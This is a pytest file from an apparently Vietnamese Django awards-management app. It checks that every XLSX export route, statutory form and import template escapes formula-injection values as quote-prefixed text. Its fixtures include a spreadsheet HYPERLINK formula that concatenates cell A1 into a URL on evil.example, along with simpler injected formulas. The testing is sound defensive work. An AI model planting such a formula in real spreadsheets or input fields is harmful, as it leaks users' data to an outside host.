"""No export carries a live formula (OWASP CSV-injection rule): names, titles and audit text that
begin with = + - @, or with a tab or carriage return, leave as quote-prefixed text cells in every
XLSX route, the statutory forms and the import templates, exactly as stored."""
import re
import zipfile
from datetime import date
from io import BytesIO
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from thidua.core.excel import looks_like_formula, template_workbook, workbook_bytes
from thidua.core.xlsx_import import Column
from thidua.movements.models import Movement, MovementKind, MovementStatus
from thidua.nominations import workflow
from thidua.organizations import services
from thidua.reports.statutory.render import xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
INJECTED = [HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=2+2", "  =3+3"]


def formulas(content):
    """The <f> elements of every sheet of an .xlsx."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return [found for name in archive.namelist() if name.startswith("xl/worksheets/")
                for found in re.findall(rb"<f[ >].*?</f>", archive.read(name))]


def texts(content):
    return {cell.value: cell for sheet in load_workbook(BytesIO(content)).worksheets
            for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}


@pytest.mark.parametrize("text, dangerous", [
    ("=1+1", True), ("+1", True), ("-1", True), ("@A1", True), ("\t1", True), ("\r1", True),
    ("  =1", True), ("Nguyễn", False), ("a=1", False), ("", False), ("— không", False)])
def test_rule(text, dangerous):
    assert looks_like_formula(text) is dangerous


def test_writer_keeps_the_text_and_writes_no_formula():
    content = workbook_bytes("Danh sách", ["Tên"], [(value,) for value in INJECTED])
    assert formulas(content) == []
    cells = texts(content)
    for value in INJECTED:
        assert cells[value].data_type == "s" and cells[value].quotePrefix


def test_statutory_form_and_import_template_write_no_formula():
    row = SimpleNamespace(label=HYPERLINK, code="@1", unit="-", values=["=1+1", 2], bold=False,
                          is_heading=False)
    form = SimpleNamespace(
        number="0601", symbol="=A1", circular="+x", received_note="", reporting_unit="u",
        receiving_unit="v", title="T", period_label="2025", unit_of_measure="", lead_keys=["A", "B"],
        columns=[SimpleNamespace(number="1"), SimpleNamespace(number="2")], has_leaf_headers=False,
        grouped_columns=[("=C", "1", []), ("D", "2", [])], rows=[row], unit_column=False,
        notes=["@note"])
    content = xlsx_bytes(form)
    assert formulas(content) == [] and HYPERLINK in texts(content)
    template = template_workbook([Column("name", "=Tên", required=True)])
    assert formulas(template) == [] and "=Tên*" in texts(template)


@pytest.fixture
def injected(network):
    person = network.hue_person
    person.family_name, person.given_name = HYPERLINK, "\t=1+1"
    services.update_person(network.actor, person)
    workflow.create_batch(network.actor, network.hue, network.hue, title="@SUM(1)", year=2025)
    Movement.objects.create(launched_by=network.hue, kind=MovementKind.THEMATIC, title="+1+1",
                            goals="-2+3", start_date=date(2025, 1, 1), end_date=date(2025, 12, 31),
                            status=MovementStatus.LAUNCHED)
    return network


@pytest.mark.django_db
@pytest.mark.parametrize("name, args, query, shows", [
    ("organizations:person_list", [], {}, HYPERLINK),
    ("organizations:organization_list", [], {}, None),
    ("nominations:batch_list", [], {}, "@SUM(1)"),
    ("movements:movement_list", [], {}, "+1+1"),
    ("records:exemplar_list", [], {}, None), ("records:initiative_list", [], {}, None),
    ("records:inspection_list", [], {}, None),
    ("awards:qualification", ["hue"], {"year": 2025}, None),
    ("audit:entry_list", [], {}, HYPERLINK),
    ("reports:ec_staff_list", [], {}, None), ("reports:ec_department_list", [], {}, None),
    ("reports:statutory", [], {"form": "0601", "year_from": 2025, "year_to": 2025}, None),
    ("reports:statutory", [], {"form": "0603", "year_from": 2025, "year_to": 2025}, None),
])
def test_every_export_route_writes_no_formula(client, injected, name, args, query, shows):
    client.force_login(injected.actor)
    response = client.get(reverse(name, args=[getattr(injected, a).pk for a in args]),
                          {"format": "xlsx", **query})
    assert response.status_code == 200, response.content[:300]
    assert formulas(response.content) == []
    if shows:
        cells = [text for text in texts(response.content) if shows in text]
        assert cells and all(not looks_like_formula(text) or texts(response.content)[text]
                             .quotePrefix for text in cells)
